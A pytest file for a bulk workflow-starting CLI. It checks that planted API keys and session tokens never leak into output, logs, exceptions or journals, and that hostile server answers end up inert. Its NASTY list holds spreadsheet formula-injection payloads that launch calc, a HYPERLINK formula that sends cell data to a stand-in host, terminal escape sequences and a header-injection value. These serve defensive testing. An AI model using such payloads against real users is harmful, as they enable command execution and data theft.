"""A key and a session are planted and looked for everywhere; text of a server or a sheet is inert wherever it is shown."""

from __future__ import annotations

import csv
import io
import logging
import pickle
import re
import sqlite3
import traceback
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest

import bulkstart
from bulkstart.errors import BulkstartError, CredentialsError
from tests.conftest import FAST, FAST_WORDS, Desk
from tests.raw import Raw

KEY = "vibe_app_PLANTEDkey_0123456789abcdef"
SESSION = "PLANTEDsession-fedcba9876543210"
PLANTED = re.compile(r"PLANTED")
KEYS = [{"key": KEY, "session": SESSION}]
HAPPY: dict[str, Any] = {"keys": KEYS}
FAILING: dict[str, Any] = {
    "keys": KEYS,
    "faults": [
        {"nth": 2, "committed": True, "answer": "close"},
        {
            "nth": 3,
            "committed": False,
            "answer": {"kind": "error", "code": "MISSING_PARAMS", "message": f"your key {KEY} and {SESSION}"},
        },
        {"nth": 4, "committed": True, "answer": {"kind": "status", "status": 500, "text": f"X-Api-Key: {KEY} Bearer {SESSION}"}},
        {"nth": 5, "committed": True, "answer": {"kind": "error", "code": f"CODE_{KEY}", "status": 400, "message": SESSION}},
        {"nth": 7, "committed": False, "answer": {"kind": "redirect_302", "location": f"https://elsewhere.example/{KEY}"}},
    ],
}


def nothing_planted(*places: object) -> None:
    for place in places:
        text = place.decode("utf-8", "replace") if isinstance(place, bytes) else str(place)
        found = PLANTED.search(text)
        assert found is None, f"a secret stands in …{text[max(0, found.start() - 120) : found.end() + 40]}…"


def files(folder: Path) -> list[Path]:
    return [path for path in folder.rglob("*") if path.is_file()]


@pytest.mark.parametrize("scenario", [HAPPY, FAILING], ids=["happy", "failing"])
def test_no_run_of_the_program_shows_or_keeps_a_secret(scenario, desk):
    here: Desk = desk(scenario)
    sheet = here.sheet()
    common = ["--template", 713, "--yes", "--verbose", "--max-unknown", "1", *FAST_WORDS]
    said = here.cli(sheet, *common)
    in_json = here.again(sheet, "--verbose")
    assert said.code == (0 if scenario is HAPPY else 7), said
    nothing_planted(said.out, said.err, in_json.out, in_json.err)
    assert {path.suffix for path in files(here.folder)} >= {".csv", ".sqlite"}
    for path in files(here.folder):
        nothing_planted(path.name, path.read_bytes())


def test_no_failure_before_the_first_send_shows_a_secret(desk):
    here: Desk = desk(HAPPY)
    for base in (
        "http://portal.example/v1",
        f"https://user:{SESSION}@portal.example/v1",
        "https://portal.example:99999/v1",
        "nonsense",
    ):
        here.env = {"BULKSTART_BASE_URL": base}
        said = here.again(here.sheet(), "--verbose")
        assert said.code == 2, said
        nothing_planted(said.out, said.err)
    here.env = {"BULKSTART_API_KEY": f"{KEY}\nX-Evil: 1"}
    said = here.again(here.sheet())
    assert said.code == 2, said
    nothing_planted(said.out, said.err)


@pytest.mark.parametrize("scenario", [HAPPY, FAILING], ids=["happy", "failing"])
def test_no_log_record_at_any_level_holds_a_secret(scenario, caplog):
    caplog.set_level(logging.DEBUG)
    for name in ("httpx", "httpcore", "httpcore.http11", "httpcore.connection", "asyncio"):
        caplog.set_level(logging.DEBUG, logger=name)
    with bulkstart.sandbox({"templates": [{"id": 713, "documentType": "deal"}], **scenario}) as portal:
        frame = pd.DataFrame({"entityId": range(1, 9)})
        results = bulkstart.start(frame, portal=portal, template=713, max_unknown=1, halt_doubts=0, **FAST)
        nothing_planted(repr(portal), str(portal), results.to_csv(), repr(results.attrs))
        with pytest.raises(TypeError):
            pickle.dumps(portal.credential)
        assert portal.journal is not None
        for path in files(portal.journal.parent):
            nothing_planted(path.read_bytes())
    assert any(record.name.startswith("http") for record in caplog.records), "the HTTP libraries did log"
    for record in caplog.records:
        nothing_planted(record.getMessage(), record.msg, record.args)


PORTAL = bulkstart.Portal.vibecode(api_key=KEY, session_token=SESSION, base_url="http://127.0.0.1:1/v1")


def denied_templates() -> None:
    with bulkstart.sandbox({"keys": [{**KEYS[0], "scopes": []}]}) as portal:
        bulkstart.templates(portal)


def test_no_exception_shows_a_secret():
    for attempt in (
        denied_templates,
        lambda: bulkstart.start(pd.DataFrame({"entityId": [1]}), portal=PORTAL, nonsense=1),
        lambda: bulkstart.start(pd.DataFrame({"entityId": [1]}), portal=PORTAL, journal="/"),
        lambda: bulkstart.Portal.vibecode(api_key=KEY),
        lambda: bulkstart.Portal.vibecode(api_key=f"x{KEY}"),
        lambda: bulkstart.Portal.vibecode(api_key=KEY, session_token=f"{SESSION} \u00e9"),
        lambda: bulkstart.Portal.vibecode(api_key=KEY, session_token=SESSION, base_url=f"https://u:{SESSION}@x.example/v1"),
    ):
        with pytest.raises(BulkstartError) as raised:
            attempt()
        nothing_planted("".join(traceback.format_exception(raised.value)))


def test_the_journal_keeps_a_salted_digest_at_most(desk):
    here: Desk = desk(HAPPY)
    here.again(here.sheet())
    dumped = "\n".join(sqlite3.connect(here.folder / "home" / "journal.sqlite").iterdump())
    assert "CREATE TABLE starts" in dumped
    nothing_planted(dumped)


# ------------------------------------------------------------------------------------------- where a key may go


@pytest.mark.parametrize("status", [301, 302, 307, 308])
def test_a_redirect_is_not_followed_with_the_key(status):
    with Raw() as elsewhere:
        location = f"http://127.0.0.1:{elsewhere.port}/v1/workflows/start".encode()
        answer = b"HTTP/1.1 %d Moved\r\nLocation: %s\r\nContent-Length: 0\r\n\r\n" % (status, location)
        with Raw(answer) as first:
            portal = bulkstart.Portal.vibecode(api_key=KEY, session_token=SESSION, base_url=first.url)
            results = bulkstart.start(
                pd.DataFrame({"entityId": [1, 2]}), portal=portal, template=713, entity_type="deal", timeout=2, **FAST
            )
        assert results.attrs["exit_code"] == 7
        assert set(results["startStatus"]) == {"not_attempted"}
        assert KEY.encode() in first.received, "the portal itself was asked"
        assert elsewhere.connections == 0
    nothing_planted(results.to_csv())


@pytest.mark.parametrize(
    "host", ["portal.example", "10.0.0.1", "127.0.0.1.example", "0.0.0.0", "localhost.example", "[::2]", "128.0.0.1"]
)
def test_a_key_is_never_sent_in_the_clear_but_to_this_machine(host):
    with pytest.raises(CredentialsError, match="https"):
        bulkstart.Portal.vibecode(api_key="vibe_api_0123456789", base_url=f"http://{host}/v1")


@pytest.mark.parametrize("host", ["127.0.0.1:8018", "localhost:8018", "[::1]:8018", "127.8.9.10"])
def test_loopback_may_be_plain_http(host):
    assert bulkstart.Portal.vibecode(api_key="vibe_api_0123456789", base_url=f"http://{host}/v1").loopback


# ---------------------------------------------------------------------------------------------------- inert text

NASTY = [
    "=cmd|'/C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    'first\r\n=second;"third",fourth',
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b2J",
    "a\u202etxt.exe\u2028b",
    '=HYPERLINK("http://x.example?"&A1)',
]


def nasty(rows: int) -> dict[str, Any]:
    """A portal whose errors are hostile: each row is refused or in doubt with a text and a code of its own."""
    faults = [
        {
            "entities": [row],
            "committed": False,
            "answer": {
                "kind": "error",
                "code": "MISSING_PARAMS" if row % 2 else NASTY[row - 1],
                "status": 400,
                "message": NASTY[row - 1],
            },
        }
        for row in range(1, rows + 1)
    ]
    return {"faults": faults}


ALL = ["--skip-invalid", "--halt-doubts", "0", "--halt-same", "0", "--halt-percent", "0"]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_hostile_answer_is_inert_in_the_results(suffix, desk):
    here: Desk = desk(nasty(len(NASTY)))
    said = here.again(here.sheet(rows=len(NASTY)), *ALL, "-o", f"out{suffix}")
    assert said.json["counts"] == {"refused": 5, "in_doubt": 5}
    path = here.folder / f"out{suffix}"
    if suffix == ".csv":
        text = path.read_bytes().decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert len(rows) == len(NASTY) + 1, "a line break of the server's made no row"
        for cell in (cell for row in rows[1:] for cell in row[-6:]):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
            assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028\u202e]", cell), ascii(cell)
    else:
        for tab in openpyxl.load_workbook(path).worksheets:
            for cell in (cell for row in tab.iter_rows(min_row=2) for cell in row[-6:]):
                assert cell.data_type != "f", cell.value
        shown = [
            tab.cell(row, 4 + 2).value for row in range(2, len(NASTY) + 2) for tab in openpyxl.load_workbook(path).worksheets[:1]
        ]
        assert any("cmd|" in str(value) for value in shown), "the text itself is kept"
    fed = here.again(path, *ALL)
    assert fed.json["counts"].get("in_doubt") == 5, "what was fed back says the same"


def test_a_hostile_answer_or_sheet_moves_no_cursor_on_the_console(desk):
    here: Desk = desk(nasty(len(NASTY)))
    sheet = here.folder / "deals.csv"
    lines = [f'{row},"\x1b[2Jtitle"' for row in range(1, len(NASTY) + 1)]
    sheet.write_text("entityId,\x1b[31mtitle\n" + "\n".join(lines) + '\n"\x1b]0;x\x07",y\n', encoding="utf-8")
    said = here.cli(sheet, "--template", 713, "--yes", "--verbose", *ALL, *FAST_WORDS)
    assert said.code == 5, said
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", said.out + said.err)
    in_json = here.again(sheet, *ALL)
    assert "\x1b" not in in_json.out


def test_the_analysts_own_formulas_are_kept_counted_and_neutralised_on_demand(desk):
    here: Desk = desk()
    sheet = here.folder / "deals.csv"
    sheet.write_text("entityId,title\n1,=1+1\n2,@x\n3,-5\n", encoding="utf-8")
    kept = here.again(sheet)
    assert "2 cells of your own columns look like formulas" in kept.err
    assert ",=1+1," in (here.folder / kept.json["results"]).read_text(encoding="utf-8-sig")
    safe = here.again(sheet, "--safe-csv")
    assert ",'=1+1," in (here.folder / safe.json["results"]).read_text(encoding="utf-8-sig")
    assert ",-5," in (here.folder / safe.json["results"]).read_text(encoding="utf-8-sig")
